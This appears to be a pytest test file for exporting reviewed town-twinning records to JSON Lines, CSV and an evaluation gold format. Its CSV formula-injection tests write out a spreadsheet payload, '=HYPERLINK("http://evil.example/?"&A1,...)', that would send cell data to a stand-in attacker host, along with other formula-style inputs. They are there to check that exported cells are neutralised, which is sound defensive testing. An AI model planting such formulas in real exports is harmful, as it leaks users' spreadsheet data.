"""Export of reviewed records: JSON Lines, CSV and the evaluation's gold format."""

from __future__ import annotations

import argparse
import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from review_fixtures import make_record, sample_records, write_records
from twin_extract.csv_layout import columns
from twin_extract.gold import documents_from_records, load_gold
from twin_extract.record import TwinningRecord
from twin_extract.review import export
from twin_extract.review.store import Store

RECORDS = sample_records() + [
    make_record(("Bucha", "UA"), ("Genoa", "IT"), source_id="s1", offset=300, date=None, confidence=0.8),
]
BUCHA, LVIV, KHARKIV, PARIS, GENOA = (record.id for record in RECORDS)


@pytest.fixture
def reviewed(tmp_path: Path) -> tuple[Path, Path]:
    """Records with: Bucha accepted (noted), Lviv corrected, Kharkiv rejected, Genoa accepted, one vanished."""
    records = write_records(tmp_path / "records.jsonl", RECORDS, bad_lines={1: "not json"})
    store = Store(tmp_path / "review.sqlite")
    store.decide(BUCHA, "accepted", "ana", 0)
    store.set_note(BUCHA, "checked with the city website", "ana", 1)
    store.decide(LVIV, "corrected", "bob", 0, {
        "status": "signed", "date": "2023",
        "parties": [{"type": "region", "subdivision": "UA-46", "name": "Lviv Oblast"}, {"country": "DE"}],
    })
    store.decide(KHARKIV, "rejected", "ana", 0)
    store.decide(GENOA, "accepted", "ana", 0)
    store.decide("feedfacefeedface", "accepted", "ana", 0)
    return records, store.path


def run(records: Path, db: Path | None, out: Path, *extra: str) -> int:
    parser = argparse.ArgumentParser()
    export.add_arguments(parser)
    argv = [str(records), "-o", str(out), *extra] + (["--db", str(db)] if db else [])
    return export.command(parser.parse_args(argv))


def read_jsonl(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text("utf-8").splitlines()]


def test_jsonl_has_accepted_and_corrected_with_review_metadata(reviewed: tuple[Path, Path], tmp_path: Path,
                                                               capsys: pytest.CaptureFixture[str]) -> None:
    records, db = reviewed
    assert run(records, db, tmp_path / "out.jsonl") == 1
    err = capsys.readouterr().err
    assert "3 reviewed record(s) written" in err and "line 2 unreadable" in err and "1 decision(s)" in err
    rows = read_jsonl(tmp_path / "out.jsonl")
    assert [row["id"] for row in rows] == [BUCHA, LVIV, GENOA]
    bucha = rows[0]
    assert bucha["review"]["state"] == "accepted" and bucha["review"]["reviewer"] == "ana"
    assert bucha["review"]["note"] == "checked with the city website" and bucha["review"]["at"]
    assert {k: v for k, v in bucha.items() if k != "review"} == RECORDS[0].to_dict()


def test_corrections_are_applied(reviewed: tuple[Path, Path], tmp_path: Path) -> None:
    records, db = reviewed
    run(records, db, tmp_path / "out.jsonl")
    lviv = read_jsonl(tmp_path / "out.jsonl")[1]
    assert lviv["review"]["state"] == "corrected" and lviv["review"]["reviewer"] == "bob"
    assert lviv["status"] == "signed"
    assert lviv["date"]["value"] == "2023" and lviv["date"]["precision"] == "year"
    assert lviv["date"]["text"] == "in June 2022"
    a, b = lviv["parties"]
    assert (a["name"], a["type"], a["subdivision"], a["text"]) == ("Lviv Oblast", "region", "UA-46", "Lviv")
    assert (b["country"], b["country_name"]) == ("DE", "Germany")


def test_exported_records_match_the_schema_apart_from_review(reviewed: tuple[Path, Path], tmp_path: Path) -> None:
    jsonschema = pytest.importorskip("jsonschema")
    from twin_extract.record import load_schema

    records, db = reviewed
    run(records, db, tmp_path / "out.jsonl")
    rows = read_jsonl(tmp_path / "out.jsonl")
    assert rows
    for row in rows:
        row.pop("review")
        jsonschema.validate(row, load_schema())


def test_csv_flattens_parties(reviewed: tuple[Path, Path], tmp_path: Path) -> None:
    records, db = reviewed
    run(records, db, tmp_path / "out.csv", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO((tmp_path / "out.csv").read_text("utf-8"))))
    assert [row["id"] for row in rows] == [BUCHA, LVIV, GENOA]
    assert list(rows[0]) == columns(review=True)  # run --format csv's layout plus review_*
    lviv = rows[1]
    assert (lviv["a_name"], lviv["a_country"], lviv["a_type"], lviv["a_subdivision"]) == ("Lviv Oblast", "UA", "region", "UA-46")
    assert (lviv["b_name"], lviv["b_country"], lviv["b_country_name"]) == ("Wroclaw", "DE", "Germany")
    assert (lviv["status"], lviv["date_value"], lviv["review_state"], lviv["review_reviewer"]) == ("signed", "2023", "corrected", "bob")
    assert rows[2]["date_value"] == "" and rows[0]["review_note"] == "checked with the city website"


def test_csv_keeps_commas_quotes_and_newlines_in_one_cell(tmp_path: Path) -> None:
    record = make_record(('Saint-Denis, "the city"', "FR"), ("Line\nBreak", "DE"))
    records = write_records(tmp_path / "r.jsonl", [record])
    Store(tmp_path / "review.sqlite").decide(record.id, "accepted", "ana", 0)
    assert run(records, None, tmp_path / "out.csv", "--format", "csv") == 0
    rows = list(csv.DictReader(io.StringIO((tmp_path / "out.csv").read_text("utf-8"), newline="")))
    assert (rows[0]["a_name"], rows[0]["b_name"]) == ('Saint-Denis, "the city"', "Line\nBreak")


HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def injected_csv(tmp_path: Path) -> tuple[dict[str, str], str]:
    """A reviewed record whose evidence, party names and note are spreadsheet formulas, as CSV."""
    record = make_record(("@SUM(A1:A9)", "UA"), ("-2+3", "IT"), prefix=f"{HYPERLINK} ", title="+Town news")
    records = write_records(tmp_path / "r.jsonl", [record])
    store = Store(tmp_path / "review.sqlite")
    store.decide(record.id, "accepted", "ana", 0)
    store.set_note(record.id, "\t=1+1 check", "ana", 1)
    assert run(records, None, tmp_path / "out.csv", "--format", "csv") == 0
    text = (tmp_path / "out.csv").read_text("utf-8")
    return list(csv.DictReader(io.StringIO(text, newline="")))[0], text


@pytest.mark.parametrize(("column", "expected"), [
    ("evidence", f"'{HYPERLINK} @SUM(A1:A9) and -2+3 signed a twinning agreement in June 2022."),
    ("a_name", "'@SUM(A1:A9)"),
    ("a_text", "'@SUM(A1:A9)"),
    ("b_name", "'-2+3"),
    ("source_title", "'+Town news"),
    ("review_note", "'\t=1+1 check"),
    ("confidence", "0.5"),
])
def test_csv_cells_cannot_become_formulas(injected_csv: tuple[dict[str, str], str], column: str,
                                          expected: str) -> None:
    row, _ = injected_csv
    assert row[column] == expected


def test_csv_formula_guard_sits_inside_the_quoted_cell(injected_csv: tuple[dict[str, str], str]) -> None:
    _, text = injected_csv
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"") ' in text
    assert ',"=' not in text and "\n=" not in text and ",=" not in text


def test_as_gold_writes_one_document_per_source(reviewed: tuple[Path, Path], tmp_path: Path) -> None:
    records, db = reviewed
    run(records, db, tmp_path / "gold.jsonl", "--as-gold")
    docs = read_jsonl(tmp_path / "gold.jsonl")
    assert [doc["id"] for doc in docs] == ["s1", "s2"]
    s1 = docs[0]
    assert set(s1) == {"id", "url", "published", "title", "text", "pairs", "notes"}
    assert (s1["url"], s1["published"], s1["notes"]) == ("https://example.org/news/1", "2022-06-20", "exported from review")
    assert s1["text"] == " ".join(span.text for record in (RECORDS[0], RECORDS[4]) for span in record.evidence)
    assert s1["pairs"] == [
        {"a": {"name": "Bucha", "country": "UA", "type": "city"}, "b": {"name": "Bergamo", "country": "IT", "type": "city"},
         "status": "signed", "date": "2022-06"},
        {"a": {"name": "Bucha", "country": "UA", "type": "city"}, "b": {"name": "Genoa", "country": "IT", "type": "city"},
         "status": "signed", "date": None},
    ]
    region = docs[1]["pairs"][0]["a"]
    assert region == {"name": "Lviv Oblast", "country": "UA", "type": "region", "code": "UA-46"}


def test_as_gold_output_loads_as_gold(reviewed: tuple[Path, Path], tmp_path: Path) -> None:
    records, db = reviewed
    run(records, db, tmp_path / "gold.jsonl", "--as-gold")
    docs = load_gold(tmp_path / "gold.jsonl")
    assert [doc.id for doc in docs] == ["s1", "s2"]
    assert [doc.to_dict() for doc in docs] == read_jsonl(tmp_path / "gold.jsonl")


def test_gold_text_does_not_repeat_a_shared_sentence() -> None:
    first = make_record(("Bucha", "UA"), ("Bergamo", "IT"))
    second = TwinningRecord.from_dict({**first.to_dict(), "id": "0" * 16})
    rows = [{**r.to_dict(), "review": {}} for r in (first, second)]
    assert documents_from_records(rows)[0].text == first.evidence[0].text


def test_nothing_reviewed_writes_an_empty_file(tmp_path: Path) -> None:
    records = write_records(tmp_path / "r.jsonl", RECORDS)
    Store(tmp_path / "review.sqlite")
    assert run(records, None, tmp_path / "out.jsonl") == 0
    assert (tmp_path / "out.jsonl").read_text() == ""


def test_missing_database_is_a_usage_error(tmp_path: Path) -> None:
    records = write_records(tmp_path / "r.jsonl", RECORDS)
    assert run(records, tmp_path / "nope.sqlite", tmp_path / "out.jsonl") == 2
    assert not (tmp_path / "nope.sqlite").exists()


def test_gold_and_csv_together_is_a_usage_error(reviewed: tuple[Path, Path], tmp_path: Path) -> None:
    records, db = reviewed
    assert run(records, db, tmp_path / "x", "--as-gold", "--format", "csv") == 2


def test_stdout_output(reviewed: tuple[Path, Path], capsys: pytest.CaptureFixture[str]) -> None:
    records, db = reviewed
    parser = argparse.ArgumentParser()
    export.add_arguments(parser)
    export.command(parser.parse_args([str(records), "--db", str(db), "-o", "-"]))
    assert len(capsys.readouterr().out.splitlines()) == 3
